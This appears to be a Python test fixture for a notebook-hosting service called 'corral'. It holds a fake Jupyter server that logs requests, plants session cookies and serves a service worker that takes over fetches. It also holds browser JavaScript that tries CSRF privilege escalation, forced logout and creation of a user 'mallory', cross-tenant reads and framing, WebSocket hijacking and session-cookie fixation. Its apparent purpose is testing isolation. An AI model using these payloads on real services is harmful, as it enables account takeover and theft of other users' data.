"""A workbench whose owner put a program of her own in the place of Jupyter, and what its pages try in a browser."""

from __future__ import annotations

#: Stands in for Jupyter: answers everything with the page beside it, and writes down what it was sent.
PROGRAM = """#!/usr/bin/env python3
import http.server, os, socketserver, sys

HERE = os.path.dirname(os.path.abspath(__file__))

class Hostile(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        with open(os.path.join(HERE, "heard"), "a") as heard:
            heard.write(f"{self.command} {self.path}\\n{self.headers}\\n")
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        is_own = self.path.endswith(("api/status", "api/kernels", "api/terminals"))
        kind = "application/json" if is_own else "text/javascript" if self.path.endswith(".js") else "text/html"
        with open(os.path.join(HERE, "worker.js" if self.path.endswith(".js") else "page.html"), "rb") as page:
            answer = b"[]" if is_own else page.read()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(answer)))
        for path in ("/", "/api", "/workbenches/"):
            for name in ("corral_session", "Corral_Session", "__Host-corral_session", "", "corral_workbench"):
                self.send_header("Set-Cookie", f"{name}=corral_session=planted; Path={path}")
        for name, value in (("Service-Worker-Allowed", "/"), ("Access-Control-Allow-Origin", "*"),
                            ("Clear-Site-Data", '"cookies"'), ("Cross-Origin-Resource-Policy", "cross-origin"),
                            ("Content-Security-Policy", "frame-ancestors *")):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(answer)

    do_POST = do_PUT = do_PATCH = do_DELETE = do_GET

    def log_message(self, *words):
        pass

class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True
    def get_request(self):
        return super().get_request()[0], ("local", 0)

where = next(word.partition("=")[2] for word in sys.argv if word.startswith("--ServerApp.sock="))
Server(where, Hostile).serve_forever()
"""

WORKER = "self.addEventListener('fetch', event => event.respondWith(new Response('taken over')));"

#: `attack(console, other, session)`: the console's origin, the address of another user's workbench, a session of the
#: attacker's own. What every try got; null where it got nothing.
PAGE = """<!doctype html><title>a notebook</title><h1>Work in progress</h1><script>
const within = (ms, promise) => Promise.race([promise, new Promise(done => setTimeout(done, ms, null))]);
const tried = async act => { try { return (await within(4000, act())) ?? null; } catch { return null; } };
const framed = async url => {
  const frame = document.createElement("iframe");
  frame.src = url;
  document.body.append(frame);
  await within(2000, new Promise(done => { frame.onload = done; }));
  return frame.contentDocument?.body?.innerText || null;
};
const listened = (source, event) => new Promise(done => {
  source.addEventListener(event, heard => done(heard.data ?? event));
  source.addEventListener("error", () => done(null));
});
async function attack(console, other, session) {
  const api = `${console}/api/v1`;
  const got = {};
  const credentials = "include";
  got["the API is read"] = await tried(async () => (await fetch(`${api}/me`, { credentials })).text());
  got["an operator is made"] = await tried(async () => {
    const me = await (await fetch(`${api}/me`, { credentials })).json();
    const headers = { "Content-Type": "application/json", "X-CSRF-Token": me.csrf_token };
    const body = JSON.stringify({ role: "operator" });
    return (await fetch(`${api}/users/eve`, { method: "PATCH", credentials, headers, body })).text();
  });
  await tried(() => fetch(`${api}/auth/logout`, { method: "POST", mode: "no-cors", credentials }));
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", enctype: type, action: `${api}/users`, target: "hidden" });
    const field = document.createElement("input");
    field.name = '{"name":"mallory","password":"password-of-mallory","role":"operator","x":"';
    field.value = '"}';
    form.append(field);
    const frame = document.createElement("iframe");
    frame.name = "hidden";
    document.body.append(frame, form);
    form.submit();
    await within(500, new Promise(() => {}));
    frame.remove();
  }
  got["the console is framed"] = await tried(() => framed(`${console}/users`));
  got["the API is framed"] = await tried(() => framed(`${api}/me`));
  got["the opener is reached"] = await tried(async () => window.opener && window.opener.document.title);
  got["a window of the console is read"] = await tried(async () => {
    const opened = window.open(`${console}/users`);
    await within(2000, new Promise(() => {}));
    const text = opened.document.body.innerText;
    opened.close();
    return text || null;
  });
  got["a service worker is registered"] = await tried(async () => {
    const made = await navigator.serviceWorker.register("worker.js");
    return made && "registered";
  });
  got["a WebSocket to the console is open"] = await tried(() =>
    listened(new WebSocket(`${console.replace("http", "ws")}/api/v1/stream`), "open"));
  got["the console's door takes a WebSocket"] = await tried(() =>
    listened(new WebSocket(`${console.replace("http", "ws")}${new URL(other).pathname}api/events/subscribe`), "open"));
  got["events are heard"] = await tried(() =>
    listened(new EventSource(`${api}/stream`, { withCredentials: true }), "open"));
  got["the other workbench is read"] = await tried(async () =>
    (await fetch(`${other}secret`, { credentials })).text());
  got["the other workbench is changed"] = await tried(async () =>
    (await fetch(`${other}api/kernels`, { method: "POST", credentials })).text());
  await tried(() => fetch(`${other}api/forged`, { method: "POST", mode: "no-cors", credentials, body: "x" }));
  got["the other workbench is framed"] = await tried(() => framed(`${other}secret`));
  got["the other workbench lends its scripts"] = await tried(() => new Promise(done => {
    const script = document.createElement("script");
    Object.assign(script, { src: `${other}secret.js`, onload: () => done("loaded"), onerror: () => done(null) });
    document.body.append(script);
  }));
  got["a WebSocket to the other workbench is open"] = await tried(() =>
    listened(new WebSocket(`${other.replace("http", "ws")}api/events/subscribe`), "open"));
  got["the other workbench answers here"] = await tried(async () => {
    const answer = await fetch(new URL(other).pathname + "secret", { credentials });
    return answer.ok ? answer.text() : null;
  });
  got["a ticket is read"] = await tried(async () => {
    const answer = await fetch(`${console}${new URL(other).pathname}lab`, { credentials });
    return answer.url + await answer.text();
  });
  got["a cookie of corral's is seen"] = await tried(async () => {
    history.pushState({}, "", new URL(other).pathname);
    return /corral_/.test(document.cookie) ? document.cookie : null;
  });
  await tried(async () => {
    const hosts = location.hostname.split(".").map((_, n, parts) => parts.slice(n).join("."));
    for (const domain of ["", ...hosts.map(host => `; Domain=${host}`)])
      for (const path of ["/", "/api", "/api/v1", "/api/v1/me", "/users", "/workbenches"])
        for (const name of ["corral_session", "__Host-corral_session"])
          document.cookie = `${name}=${session}; Path=${path}${domain}; Max-Age=3600`;
  });
  return got;
}
</script>"""
